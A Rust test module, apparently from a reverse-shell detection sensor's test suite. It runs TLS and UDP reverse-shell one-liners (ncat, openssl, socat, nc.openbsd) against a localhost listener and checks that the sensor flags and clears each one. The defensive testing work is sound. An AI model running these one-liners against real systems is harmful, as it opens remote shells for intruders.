//! Relays that reach the peer through TLS or over UDP.

use anyhow::Result;
use sensor_tests::{
    lab::{Lab, REVERSE},
    peer::{Listener, V4},
    suite::Case,
    tls::TlsListener,
};

/// Through TLS.
const TLS: [(&str, &[&str], &str); 5] = [
    ("ncat_ssl", &["ncat"], "mkfifo f; sh -i <f 2>&1 | ncat --ssl $H $P >f"),
    ("ncat_ssl_e", &["ncat"], "exec ncat --ssl -e /bin/sh $H $P"),
    (
        "openssl",
        &["openssl"],
        "mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect $H:$P >f 2>/dev/null",
    ),
    (
        "socat_openssl",
        &["socat"],
        "exec socat OPENSSL:$H:$P,verify=0 EXEC:/bin/sh",
    ),
    (
        "socat_openssl_pty",
        &["socat"],
        "socat OPENSSL:$H:$P,verify=0 EXEC:'bash --norc -i',pty,stderr,setsid,sane; true",
    ),
];

const UDP: [(&str, &[&str], &str); 4] = [
    ("ncat_udp", &["ncat"], "exec ncat -u $H $P -c 'exec sh -i 2>&1'"),
    (
        "mkfifo_ncat_udp",
        &["ncat"],
        "mkfifo f; sh -i <f 2>&1 | ncat -u $H $P >f",
    ),
    (
        "mkfifo_openbsd_udp",
        &["nc.openbsd"],
        "mkfifo f; sh -i <f 2>&1 | nc.openbsd -u $H $P >f",
    ),
    ("socat_udp", &["socat"], "exec socat UDP4:$H:$P EXEC:'sh -i',stderr"),
];

fn tls(lab: &Lab<'_>, script: &str) -> Result<()> {
    let listener = TlsListener::new(lab)?;
    lab.bash(script, &[("H", "127.0.0.1"), ("P", &listener.port().to_string())])?;
    lab.carried(listener.accept()?, REVERSE)
}

/// Hanging up can't be heard over UDP: what carries the streams is ended with the shell.
fn udp(lab: &Lab<'_>, script: &str) -> Result<()> {
    let mut peer = lab.calls(&Listener::udp(V4)?, "127.0.0.1", script)?;
    let shell = peer.shell()?;
    let finding = lab.risen_finding(peer.ends(), REVERSE)?;
    lab.same(&finding, &shell)?;
    peer.send("kill -9 0\n")?;
    lab.ended(&finding)?;
    Ok(())
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, tools, script) in TLS {
        cases.push(Case::new(format!("relay_tls::{name}"), tools, move |lab| {
            tls(lab, script)
        }));
    }
    for (name, tools, script) in UDP {
        cases.push(Case::new(format!("relay_udp::{name}"), tools, move |lab| {
            udp(lab, script)
        }));
    }
    cases
}
